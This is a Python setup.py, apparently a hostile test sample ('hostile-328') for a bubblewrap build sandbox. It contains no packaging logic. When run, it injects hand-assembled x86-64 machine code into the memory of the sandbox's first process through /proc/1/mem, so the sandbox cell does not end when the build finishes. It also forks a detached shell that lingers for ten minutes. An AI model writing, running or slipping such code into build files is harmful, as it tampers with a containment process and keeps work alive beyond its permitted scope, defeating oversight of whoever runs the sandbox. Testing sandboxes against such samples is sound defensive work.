"""setup.py changes the first process of its cell, so that the cell does not end with the build."""

import os
import time

# Machine code of x86-64, in the place of the loop of bubblewrap: prctl(PR_SET_PDEATHSIG, 0), close(0), close(1), close(2),
# wait4() until process 2 has ended, write(EVENT, 1) to tell the other bubblewrap that it has, and pause() for ever.
CODE = (
    "b89d000000bf0100000031f631d20f05"
    "b80300000031ff0f05b803000000bf010000000f05b803000000bf020000000f05"
    "b83d00000048c7c7ffffffff31f631d24531d20f0583f80275e6"
    "6a01b801000000bf{event}4889e6ba080000000f05"
    "b8220000000f05ebf7"
)


def take_over():
    """Write the code where the first process, bubblewrap, waits for a child, and give it one."""
    links = {name: os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd")}
    event = next(int(name) for name, target in links.items() if "eventfd" in target)
    place = int(open("/proc/1/syscall").read().split()[-1], 16)
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        memory.seek(place)
        memory.write(bytes.fromhex(CODE.format(event=event.to_bytes(4, "little").hex())))
    if os.fork() == 0:
        if os.fork() == 0:
            os._exit(0)
        os._exit(0)
    os.wait()


if os.path.isdir("/ws"):
    take_over()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.close(fd)
        os.execv("/bin/sh", ["hostile-328", "-c", "sleep 600; true"])
    os._exit(0)
time.sleep(0.1)
